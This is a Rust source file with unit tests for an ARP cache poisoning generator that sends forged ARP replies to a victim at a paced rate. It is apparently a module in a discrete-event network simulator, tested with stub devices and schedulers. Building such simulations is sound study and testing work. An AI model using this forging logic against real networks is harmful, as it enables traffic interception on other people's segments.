//! ARP cache poisoning traffic generator
//!
//! [`ArpSpoofApp`] impersonates a third party on a shared segment by
//! emitting forged ARP replies toward a victim at a constant packet rate.
//! It is driven entirely by the hosting discrete-event scheduler: each
//! activation sends one packet immediately, then keeps exactly one future
//! transmission registered until the packet budget runs out or the host
//! deactivates it.

use super::packet::ArpPacket;
use arpforge_core::{ethertypes, Error, EventId, MacAddr, NetDevice, Result, Scheduler, TxObserver};
use std::cell::RefCell;
use std::net::Ipv4Addr;
use std::rc::Rc;
use std::time::Duration;
use tracing::{debug, trace};

/// Immutable parameters of one poisoning run
pub struct SpoofConfig {
    /// Link-layer endpoint used for transmission
    pub device: Rc<dyn NetDevice>,
    /// Forged identity: the MAC the victim should learn
    pub impersonated_mac: MacAddr,
    /// Forged identity: the IP whose binding gets overwritten
    pub impersonated_ip: Ipv4Addr,
    /// Destination of the forged replies
    pub victim_mac: MacAddr,
    /// Network address of the victim
    pub victim_ip: Ipv4Addr,
    /// Nominal packet size in bytes, used only for pacing arithmetic
    pub packet_size: u32,
    /// Maximum number of packets to send; 0 means unbounded
    pub max_packets: u32,
    /// Target sustained bit rate
    pub rate_bps: u64,
}

impl SpoofConfig {
    fn validate(&self) -> Result<()> {
        if self.packet_size == 0 {
            return Err(Error::configuration("packet_size", "must be non-zero"));
        }
        if self.rate_bps == 0 {
            return Err(Error::configuration("rate_bps", "must be non-zero"));
        }
        Ok(())
    }

    /// Time to clock `packet_size` bytes onto the wire at `rate_bps`
    ///
    /// Each packet is spaced exactly one transmission time apart; contention
    /// and actual wire size are not modeled.
    pub fn tx_delay(&self) -> Duration {
        Duration::from_secs_f64((u64::from(self.packet_size) * 8) as f64 / self.rate_bps as f64)
    }
}

#[derive(Default)]
struct RuntimeState {
    running: bool,
    packets_sent: u64,
    bytes_sent: u64,
    errors: u64,
    pending: Option<EventId>,
    scheduler: Option<Rc<dyn Scheduler>>,
}

/// Snapshot of generator progress
#[derive(Debug, Clone, Copy, Default)]
pub struct SpoofStats {
    pub packets_sent: u64,
    pub bytes_sent: u64,
    pub errors: u64,
    pub is_running: bool,
}

/// Forged-reply traffic generator
///
/// Lifecycle: construct, [`configure`](Self::configure), then
/// [`activate`](Self::activate) / [`deactivate`](Self::deactivate) from the
/// host at simulated timestamps of its choosing. Once the packet budget is
/// exhausted the generator goes quiet but stays nominally running until the
/// host deactivates it.
pub struct ArpSpoofApp {
    config: RefCell<Option<SpoofConfig>>,
    state: RefCell<RuntimeState>,
    observer: RefCell<Option<Rc<dyn TxObserver>>>,
}

impl ArpSpoofApp {
    pub fn new() -> Rc<Self> {
        Rc::new(Self {
            config: RefCell::new(None),
            state: RefCell::new(RuntimeState::default()),
            observer: RefCell::new(None),
        })
    }

    /// Attach an observer for sent/cancelled/errored events
    pub fn set_observer(&self, observer: Rc<dyn TxObserver>) {
        *self.observer.borrow_mut() = Some(observer);
    }

    /// Store the spoof parameters
    ///
    /// Pacing parameters are checked here so the inter-packet delay can
    /// never come out zero or undefined. Reconfiguring is allowed only
    /// while idle.
    pub fn configure(&self, config: SpoofConfig) -> Result<()> {
        if self.state.borrow().running {
            return Err(Error::invalid_state("cannot reconfigure while running"));
        }
        config.validate()?;
        *self.config.borrow_mut() = Some(config);
        Ok(())
    }

    /// Transition idle -> running
    ///
    /// Resets the packet counter and sends the first forged reply
    /// immediately; a transmission failure in this first cycle is returned
    /// to the caller and leaves nothing scheduled.
    pub fn activate(self: &Rc<Self>, scheduler: Rc<dyn Scheduler>) -> Result<()> {
        if self.config.borrow().is_none() {
            return Err(Error::invalid_state("activate() before configure()"));
        }
        {
            let mut state = self.state.borrow_mut();
            if state.running {
                return Err(Error::invalid_state("already running"));
            }
            state.running = true;
            state.packets_sent = 0;
            state.bytes_sent = 0;
            state.errors = 0;
            state.scheduler = Some(scheduler);
        }
        debug!("spoof generator activated");
        self.send_cycle()
    }

    /// Transition running -> idle, cancelling the pending transmission
    ///
    /// Safe to call repeatedly or when never started.
    pub fn deactivate(&self) {
        let (was_running, pending, scheduler) = {
            let mut state = self.state.borrow_mut();
            let was_running = state.running;
            state.running = false;
            (was_running, state.pending.take(), state.scheduler.take())
        };
        if let (Some(event), Some(scheduler)) = (pending, scheduler) {
            scheduler.cancel(event);
            debug!("pending transmission cancelled");
            self.notify(|obs| obs.on_cancelled());
        }
        if was_running {
            debug!("spoof generator deactivated");
        }
    }

    pub fn is_running(&self) -> bool {
        self.state.borrow().running
    }

    pub fn stats(&self) -> SpoofStats {
        let state = self.state.borrow();
        SpoofStats {
            packets_sent: state.packets_sent,
            bytes_sent: state.bytes_sent,
            errors: state.errors,
            is_running: state.running,
        }
    }

    /// One send cycle: forge, transmit, account, reschedule
    fn send_cycle(self: &Rc<Self>) -> Result<()> {
        // Copy what the cycle needs so no borrow is held across the device
        // and observer calls.
        let (device, frame, victim_mac, delay, max_packets) = {
            let config_ref = self.config.borrow();
            let config = match config_ref.as_ref() {
                Some(config) => config,
                None => return Err(Error::invalid_state("send cycle without configuration")),
            };
            let reply = ArpPacket::reply(
                config.impersonated_mac,
                config.impersonated_ip,
                config.victim_mac,
                config.victim_ip,
            );
            (
                Rc::clone(&config.device),
                reply.serialize(),
                config.victim_mac,
                config.tx_delay(),
                config.max_packets,
            )
        };

        if let Err(e) = device.send(&frame, victim_mac, ethertypes::ARP) {
            self.state.borrow_mut().errors += 1;
            debug!(error = %e, "forged reply rejected by device");
            self.notify(|obs| obs.on_error(&e));
            return Err(e);
        }

        let seq = {
            let mut state = self.state.borrow_mut();
            state.packets_sent += 1;
            state.bytes_sent += frame.len() as u64;
            state.packets_sent
        };
        trace!(seq, len = frame.len(), victim = %victim_mac, "forged reply transmitted");

        if max_packets == 0 || seq < u64::from(max_packets) {
            self.schedule_next(delay);
        }
        // Budget exhausted: stop rescheduling but stay nominally running
        // until the host calls deactivate().

        self.notify(|obs| obs.on_sent(seq, frame.len()));
        Ok(())
    }

    fn schedule_next(self: &Rc<Self>, delay: Duration) {
        let weak = Rc::downgrade(self);
        let callback = Box::new(move || {
            if let Some(app) = weak.upgrade() {
                app.on_timer();
            }
        });

        let mut state = self.state.borrow_mut();
        debug_assert!(state.pending.is_none(), "one pending transmission at a time");
        let scheduler = match state.scheduler.as_ref() {
            Some(scheduler) => Rc::clone(scheduler),
            None => return,
        };
        state.pending = Some(scheduler.schedule_after(delay, callback));
    }

    fn on_timer(self: &Rc<Self>) {
        {
            let mut state = self.state.borrow_mut();
            state.pending = None;
            if !state.running {
                return;
            }
        }
        // A scheduled cycle has no caller to hand an error back to; the
        // observer already saw it.
        let _ = self.send_cycle();
    }

    fn notify(&self, f: impl FnOnce(&dyn TxObserver)) {
        let observer = self.observer.borrow().clone();
        if let Some(observer) = observer {
            f(observer.as_ref());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use arpforge_core::EventCallback;
    use std::cell::Cell;
    use std::collections::VecDeque;

    /// Scheduler double that queues callbacks for manual firing
    #[derive(Default)]
    struct StubScheduler {
        queue: RefCell<VecDeque<(EventId, Duration, EventCallback)>>,
        next_id: Cell<u64>,
        scheduled: Cell<u64>,
        cancelled: RefCell<Vec<EventId>>,
    }

    impl StubScheduler {
        fn new() -> Rc<Self> {
            Rc::new(Self::default())
        }

        /// Fire the oldest queued callback, returning its requested delay
        fn fire_next(&self) -> Option<Duration> {
            let entry = self.queue.borrow_mut().pop_front();
            entry.map(|(_, delay, callback)| {
                callback();
                delay
            })
        }

        fn outstanding(&self) -> usize {
            self.queue.borrow().len()
        }
    }

    impl Scheduler for StubScheduler {
        fn schedule_after(&self, delay: Duration, callback: EventCallback) -> EventId {
            let id = EventId(self.next_id.get());
            self.next_id.set(id.0 + 1);
            self.scheduled.set(self.scheduled.get() + 1);
            self.queue.borrow_mut().push_back((id, delay, callback));
            id
        }

        fn cancel(&self, event: EventId) {
            self.queue.borrow_mut().retain(|(id, _, _)| *id != event);
            self.cancelled.borrow_mut().push(event);
        }
    }

    /// Device double that records frames, optionally failing after a budget
    struct StubDevice {
        mac: MacAddr,
        frames: RefCell<Vec<(Vec<u8>, MacAddr, u16)>>,
        fail_after: Option<u64>,
    }

    impl StubDevice {
        fn new() -> Rc<Self> {
            Rc::new(Self {
                mac: MacAddr([0xaa, 0xaa, 0xaa, 0xaa, 0xaa, 0x01]),
                frames: RefCell::new(Vec::new()),
                fail_after: None,
            })
        }

        fn failing_after(count: u64) -> Rc<Self> {
            Rc::new(Self {
                mac: MacAddr([0xaa, 0xaa, 0xaa, 0xaa, 0xaa, 0x01]),
                frames: RefCell::new(Vec::new()),
                fail_after: Some(count),
            })
        }

        fn sent(&self) -> usize {
            self.frames.borrow().len()
        }
    }

    impl NetDevice for StubDevice {
        fn mac_address(&self) -> MacAddr {
            self.mac
        }

        fn send(&self, payload: &[u8], destination: MacAddr, ethertype: u16) -> Result<()> {
            if let Some(budget) = self.fail_after {
                if self.frames.borrow().len() as u64 >= budget {
                    return Err(Error::transmission("device not ready"));
                }
            }
            self.frames
                .borrow_mut()
                .push((payload.to_vec(), destination, ethertype));
            Ok(())
        }
    }

    #[derive(Default)]
    struct CountingObserver {
        sent: Cell<u64>,
        cancelled: Cell<u64>,
        errors: Cell<u64>,
    }

    impl TxObserver for CountingObserver {
        fn on_sent(&self, _seq: u64, _len: usize) {
            self.sent.set(self.sent.get() + 1);
        }

        fn on_cancelled(&self) {
            self.cancelled.set(self.cancelled.get() + 1);
        }

        fn on_error(&self, _error: &Error) {
            self.errors.set(self.errors.get() + 1);
        }
    }

    fn config(device: Rc<dyn NetDevice>, max_packets: u32) -> SpoofConfig {
        SpoofConfig {
            device,
            impersonated_mac: MacAddr([0xaa, 0xaa, 0xaa, 0xaa, 0xaa, 0x01]),
            impersonated_ip: Ipv4Addr::new(10, 0, 0, 2),
            victim_mac: MacAddr([0xaa, 0xaa, 0xaa, 0xaa, 0xaa, 0x00]),
            victim_ip: Ipv4Addr::new(10, 0, 0, 1),
            packet_size: 1040,
            max_packets,
            rate_bps: 1_000_000,
        }
    }

    #[test]
    fn rejects_zero_pacing_parameters() {
        let app = ArpSpoofApp::new();
        let device = StubDevice::new();

        let mut bad = config(device.clone(), 10);
        bad.packet_size = 0;
        assert!(matches!(
            app.configure(bad),
            Err(Error::Configuration { .. })
        ));

        let mut bad = config(device, 10);
        bad.rate_bps = 0;
        assert!(matches!(
            app.configure(bad),
            Err(Error::Configuration { .. })
        ));
    }

    #[test]
    fn activate_requires_configuration() {
        let app = ArpSpoofApp::new();
        let scheduler = StubScheduler::new();
        assert!(matches!(
            app.activate(scheduler),
            Err(Error::InvalidState(_))
        ));
    }

    #[test]
    fn activate_twice_is_an_error() {
        let app = ArpSpoofApp::new();
        let device = StubDevice::new();
        let scheduler = StubScheduler::new();

        app.configure(config(device.clone(), 0)).unwrap();
        app.activate(scheduler.clone()).unwrap();
        assert!(matches!(
            app.activate(scheduler),
            Err(Error::InvalidState(_))
        ));
        // The failed second activation must not have disturbed the run.
        assert_eq!(device.sent(), 1);
        assert!(app.is_running());
    }

    #[test]
    fn pacing_delay_is_exact_every_step() {
        let app = ArpSpoofApp::new();
        let device = StubDevice::new();
        let scheduler = StubScheduler::new();

        // 1040 bytes at 1 Mbit/s: 8.32 ms between sends.
        app.configure(config(device, 20)).unwrap();
        app.activate(scheduler.clone()).unwrap();

        while let Some(delay) = scheduler.fire_next() {
            assert_eq!(delay, Duration::from_micros(8320));
        }
    }

    #[test]
    fn sends_exactly_the_iteration_limit() {
        let app = ArpSpoofApp::new();
        let device = StubDevice::new();
        let scheduler = StubScheduler::new();

        app.configure(config(device.clone(), 1000)).unwrap();
        app.activate(scheduler.clone()).unwrap();

        while scheduler.fire_next().is_some() {}

        assert_eq!(device.sent(), 1000);
        assert_eq!(app.stats().packets_sent, 1000);
        // The 1000th cycle must not have registered a further event.
        assert_eq!(scheduler.scheduled.get(), 999);
        // Quiet but never transitioned back to idle on its own.
        assert!(app.is_running());
    }

    #[test]
    fn at_most_one_event_outstanding() {
        let app = ArpSpoofApp::new();
        let device = StubDevice::new();
        let scheduler = StubScheduler::new();

        app.configure(config(device, 50)).unwrap();
        app.activate(scheduler.clone()).unwrap();

        assert_eq!(scheduler.outstanding(), 1);
        while scheduler.fire_next().is_some() {
            assert!(scheduler.outstanding() <= 1);
        }
    }

    #[test]
    fn deactivate_cancels_the_pending_send() {
        let app = ArpSpoofApp::new();
        let device = StubDevice::new();
        let scheduler = StubScheduler::new();
        let observer = Rc::new(CountingObserver::default());
        app.set_observer(observer.clone());

        app.configure(config(device.clone(), 1000)).unwrap();
        app.activate(scheduler.clone()).unwrap();
        app.deactivate();

        // Only the immediate first send happened; the scheduled one is gone.
        assert_eq!(device.sent(), 1);
        assert_eq!(scheduler.outstanding(), 0);
        assert_eq!(scheduler.cancelled.borrow().len(), 1);
        assert!(!app.is_running());
        assert_eq!(observer.sent.get(), 1);
        assert_eq!(observer.cancelled.get(), 1);
    }

    #[test]
    fn deactivate_is_idempotent() {
        let app = ArpSpoofApp::new();
        let device = StubDevice::new();
        let scheduler = StubScheduler::new();

        // Never started: still safe.
        app.deactivate();

        app.configure(config(device, 1000)).unwrap();
        app.activate(scheduler.clone()).unwrap();
        app.deactivate();
        app.deactivate();

        assert_eq!(scheduler.cancelled.borrow().len(), 1);
        assert!(!app.is_running());
    }

    #[test]
    fn restart_resets_the_counter() {
        let app = ArpSpoofApp::new();
        let device = StubDevice::new();
        let scheduler = StubScheduler::new();

        app.configure(config(device.clone(), 3)).unwrap();
        app.activate(scheduler.clone()).unwrap();
        while scheduler.fire_next().is_some() {}
        assert_eq!(device.sent(), 3);

        app.deactivate();
        app.activate(scheduler.clone()).unwrap();
        while scheduler.fire_next().is_some() {}

        assert_eq!(device.sent(), 6);
        assert_eq!(app.stats().packets_sent, 3);
    }

    #[test]
    fn first_cycle_transmission_error_propagates() {
        let app = ArpSpoofApp::new();
        let device = StubDevice::failing_after(0);
        let scheduler = StubScheduler::new();
        let observer = Rc::new(CountingObserver::default());
        app.set_observer(observer.clone());

        app.configure(config(device, 0)).unwrap();
        let result = app.activate(scheduler.clone());

        assert!(matches!(result, Err(Error::Transmission(_))));
        assert_eq!(scheduler.outstanding(), 0);
        assert_eq!(app.stats().errors, 1);
        assert_eq!(observer.errors.get(), 1);
    }

    #[test]
    fn later_transmission_error_stops_scheduling() {
        let app = ArpSpoofApp::new();
        let device = StubDevice::failing_after(3);
        let scheduler = StubScheduler::new();
        let observer = Rc::new(CountingObserver::default());
        app.set_observer(observer.clone());

        app.configure(config(device.clone(), 0)).unwrap();
        app.activate(scheduler.clone()).unwrap();
        while scheduler.fire_next().is_some() {}

        assert_eq!(device.sent(), 3);
        assert_eq!(observer.sent.get(), 3);
        assert_eq!(observer.errors.get(), 1);
        assert_eq!(scheduler.outstanding(), 0);
    }

    #[test]
    fn frames_carry_the_forged_reply() {
        let app = ArpSpoofApp::new();
        let device = StubDevice::new();
        let scheduler = StubScheduler::new();

        app.configure(config(device.clone(), 2)).unwrap();
        app.activate(scheduler.clone()).unwrap();
        while scheduler.fire_next().is_some() {}

        let frames = device.frames.borrow();
        assert_eq!(frames.len(), 2);
        for (payload, destination, ethertype) in frames.iter() {
            assert_eq!(*ethertype, ethertypes::ARP);
            assert_eq!(*destination, MacAddr([0xaa, 0xaa, 0xaa, 0xaa, 0xaa, 0x00]));

            let reply = ArpPacket::parse(payload).unwrap();
            assert!(reply.is_reply());
            assert_eq!(reply.sender_mac, MacAddr([0xaa, 0xaa, 0xaa, 0xaa, 0xaa, 0x01]));
            assert_eq!(reply.sender_ip, Ipv4Addr::new(10, 0, 0, 2));
            assert_eq!(reply.target_mac, MacAddr([0xaa, 0xaa, 0xaa, 0xaa, 0xaa, 0x00]));
            assert_eq!(reply.target_ip, Ipv4Addr::new(10, 0, 0, 1));
        }
    }

    #[test]
    fn unbounded_run_keeps_scheduling() {
        let app = ArpSpoofApp::new();
        let device = StubDevice::new();
        let scheduler = StubScheduler::new();

        app.configure(config(device.clone(), 0)).unwrap();
        app.activate(scheduler.clone()).unwrap();

        for _ in 0..500 {
            assert!(scheduler.fire_next().is_some());
        }
        assert_eq!(device.sent(), 501);
        assert_eq!(scheduler.outstanding(), 1);
        app.deactivate();
        assert_eq!(scheduler.outstanding(), 0);
    }
}
